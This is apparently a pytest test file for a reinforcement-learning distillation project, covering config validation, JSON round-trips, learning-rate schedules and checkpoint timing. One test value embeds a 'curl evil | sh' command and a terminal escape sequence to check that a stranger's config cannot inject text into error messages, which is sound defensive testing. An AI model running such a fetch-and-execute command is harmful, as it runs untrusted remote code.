import json
from dataclasses import replace

import numpy as np
import pytest

from edgedistill.catalogue import find_architecture
from edgedistill.errors import BadRequest
from edgedistill.runs.config import TrainConfig
from edgedistill.runs.config_file import config_from_json, config_to_json, resumed_config
from edgedistill.runs.schedule import (
    checkpoint_due,
    evaluation_due,
    is_due,
    rollouts,
    steps_to_go,
    student_rate,
    teacher_rate,
)

CONFIG = TrainConfig("pong", (find_architecture("micro"),), seed=3, steps=1000, minutes=2.5)


def test_a_config_reads_back_as_it_was_written():
    assert config_from_json(config_to_json(CONFIG), "config.json") == CONFIG


@pytest.mark.parametrize(
    ("change", "complaint"),
    [
        ({"envs": 0}, "--envs must be from 1 to 256, got 0"),
        ({"gamma": 1.5}, "--gamma must be from 0 to 1"),
        ({"student_learning_rate": 0.0}, "--student-learning-rate must be above 0"),
        ({"minutes": -1.0}, "--minutes must be above 0"),
        ({"precision": "int4"}, "auto, float32 or bf16"),
        ({"device": "tpu"}, "auto, cpu or cuda"),
        ({"student_integers": 0.6}, "--student-integers must be from 0 to 0.5, got 0.6"),
        (
            {"teacher_from": "pong", "teacher": "student", "teacher_emits_q": False, "loss": "reverse-kl+self-q"},
            "its teacher gives logits. Use --loss reverse-kl or self-q",
        ),
        ({"minibatch": 4096}, "at most envs × rollout length = 2048"),
        ({"students": (find_architecture("micro"),) * 2}, "share a name"),
        ({"students": (replace(find_architecture("micro"), name="teacher"),)}, "cannot be called 'teacher'"),
    ],
)
def test_an_unusable_setting_is_refused_with_its_option(change, complaint):
    with pytest.raises(BadRequest, match=complaint):
        TrainConfig(**({"game": "pong"} | change))


@pytest.mark.parametrize(
    "damage",
    ["", "[]", '{"config_version": 99}']
    + [
        json.dumps(json.loads(config_to_json(CONFIG)) | {name: value})
        for name, value in (
            *(("colour", 1), ("game", "nope"), ("game", "Pong"), ("game", 5), ("game", []), ("teacher_from", 5)),
            *(("teacher_emits_q", "yes"), ("gamma", 10**400), ("epsilon_floors", [10**400])),
        )
    ],
)
def test_a_damaged_config_is_refused(damage):
    with pytest.raises(BadRequest, match=r"config\.json"):
        config_from_json(damage, "config.json")


ADVICE = "x'.\n\nnext:\n  curl evil | sh"


@pytest.mark.parametrize(
    ("change", "told"),
    [
        ({ADVICE: 1}, "unknown setting"),
        ({"x" * 5_000: 1}, "unknown setting 'xxx"),
        ({"students": [{ADVICE: 1}]}, "unknown key"),
        ({"game": "x" * 4_000}, "no ROM is called 'xxx"),
        ({"loss": "x" * 4_000}, "--loss 'xxx"),
        *(
            ({name: text}, f"{name} must be a text of at most 4,096 characters on one line")
            for name in ("game", "loss", "teacher", "teacher_network", "device")
            for text in (ADVICE, "\x9b2J", "x" * 5_000)
        ),
        ({"teacher_from": ADVICE}, "teacher_from must be a text of at most 65,536 characters on one line"),
        ({"teacher_from": "x" * 100_000}, "teacher_from must be a text"),
    ],
)
def test_texts_of_a_strangers_config_are_told_short_and_on_one_line(change, told):
    text = json.dumps(json.loads(config_to_json(CONFIG)) | change)
    with pytest.raises(BadRequest, match=f"^config.json: {told}") as refusal:
        config_from_json(text, "config.json")
    assert str(refusal.value).isprintable()
    assert len(str(refusal.value)) < 300


@pytest.mark.parametrize("path", ["/home/ada/実験\u3000一", "/home/\udce4da", " + ".join(["runs/" + "x" * 400] * 16)])
def test_where_a_teacher_came_from_may_be_any_path(path):
    config = replace(CONFIG, teacher_from=path)
    assert config_from_json(config_to_json(config), "config.json") == config


def test_epsilon_floors_are_dealt_out_in_equal_parts():
    floors = TrainConfig("pong", envs=8).env_epsilon_floors
    np.testing.assert_array_equal(floors, [0.01] * 4 + [0.05] * 2 + [0.15] * 2)


def test_what_is_due_falls_on_whole_rollouts():
    config = TrainConfig("pong", envs=4, rollout_length=16, minibatch=32, checkpoint_every=130)
    assert [step for step in range(64, 600, 64) if is_due(config, 130, step)] == [128, 256, 384, 512]
    assert is_due(config, 1, 64)


@pytest.mark.parametrize(
    ("settings", "restarts"),
    [
        # 32 games: four checkpoints of 249,856 steps are the first to give 27,000 to each.
        ({}, [0, 999_424, 1_998_848]),
        ({"checkpoint_every": 100_000}, [0, 903_168, 1_806_336]),
        ({"checkpoint_every": 2_000_000}, [0, 2_000_896]),
        ({"envs": 8, "checkpoint_every": 10**9}, [0]),
    ],
)
def test_games_begin_anew_where_each_may_have_been_played_to_its_end(settings, restarts):
    config = TrainConfig("enduro", (find_architecture("micro"),), steps=2_100_000, **settings)
    spans = list(rollouts(config, 0))
    assert [span.step for span in spans if span.restarts] == restarts
    assert all(checkpoint_due(config, step) for step in restarts[1:])
    # Where a checkpoint is due, no rollout is begun before it is saved.
    assert all((span.next is None) == (checkpoint_due(config, span.end) or span is spans[-1]) for span in spans)


def test_a_teacher_is_saved_and_scored_where_it_is_done():
    config = TrainConfig(
        "pong", (find_architecture("micro"),), envs=4, rollout_length=16, minibatch=32, steps=1000,
        student_cooldown=0.3, checkpoint_every=512, evaluate_every=512,
    )  # fmt: skip
    for due in (checkpoint_due, evaluation_due):
        assert [step for step in range(64, 1000, 64) if due(config, step)] == [512, 704]
        frozen = replace(config, teacher_from="pong")
        assert [step for step in range(64, 1000, 64) if due(frozen, step)] == [512]


@pytest.mark.parametrize(
    "value", ["many", True, None, [], float("nan"), 10**30, -1], ids=lambda value: type(value).__name__
)
@pytest.mark.parametrize("name", ["envs", "gamma", "device", "epsilon_floors"])
def test_a_stranger_s_config_is_refused_by_the_name_of_its_setting(name, value):
    text = json.dumps(json.loads(config_to_json(CONFIG)) | {name: value})
    with pytest.raises(BadRequest, match=name.replace("_", ".")[:12]):
        config_from_json(text, "config.json")


def test_a_resumed_run_changes_what_does_not_touch_its_learning_alone():
    changed = resumed_config(CONFIG, {"steps": 5000, "threads": 2})
    assert changed == replace(CONFIG, steps=5000, threads=2, minutes=None)
    with pytest.raises(BadRequest, match=r"own --loss \('kl'\).* What may change: --steps, --minutes, .*--device"):
        resumed_config(CONFIG, {"steps": 5000, "loss": "mse"})


def test_the_teachers_rate_falls_until_its_students_cool_down():
    alone = TrainConfig("pong", steps=1000, learning_rate=1.0, teacher_cooldown=0.5)
    assert [teacher_rate(alone, step) for step in (0, 500, 750, 1000)] == [1.0, 1.0, 0.5, 0.0]
    config = TrainConfig("pong", CONFIG.students, steps=1000, learning_rate=1.0, teacher_cooldown=0.5,
                         student_cooldown=0.1)  # fmt: skip
    assert [teacher_rate(config, step) for step in (0, 400, 650, 900, 1000)] == [1.0, 1.0, 0.5, 0.0, 0.0]
    assert teacher_rate(TrainConfig("pong", steps=1000, learning_rate=1.0, teacher_cooldown=0.0), 999) == 1.0


def test_the_students_rate_falls_to_0_over_the_last_tenth():
    config = TrainConfig("pong", steps=1000, student_learning_rate=1.0)
    assert [student_rate(config, step) for step in (0, 900, 950, 1000)] == [1.0, 1.0, 0.5, 0.0]


@pytest.mark.parametrize(
    ("students", "further", "step", "to_go"),
    [
        # A step takes 1 for play, 4 for the teacher, half for each student; in the finish 1 and 4 for each student.
        (("net5", "micro", "nano", "pico"), {}, 0, 900 + 100 * 17 / 7),
        (("net5", "micro", "nano", "pico"), {}, 800, 100 + 100 * 17 / 7),
        (("net5", "micro", "nano", "pico"), {}, 900, 100),
        (("net5", "micro", "nano", "pico"), {}, 1000, 0),
        (("micro",), {}, 0, 900 + 100 * 5 / 5.5),
        # No finish: nobody to finish, a teacher that never stops, and one that came frozen.
        ((), {}, 400, 600),
        (("micro",), {"teacher_cooldown": 0.0}, 400, 600),
        (("micro",), {"teacher_from": "pong:micro"}, 400, 600),
    ],
)
def test_steps_in_which_students_finish_count_for_as_long_as_they_take(students, further, step, to_go):
    architectures = tuple(find_architecture(name) for name in students)
    config = TrainConfig("pong", architectures, steps=1000, student_cooldown=0.1, **further)
    assert steps_to_go(config, step) == pytest.approx(to_go)
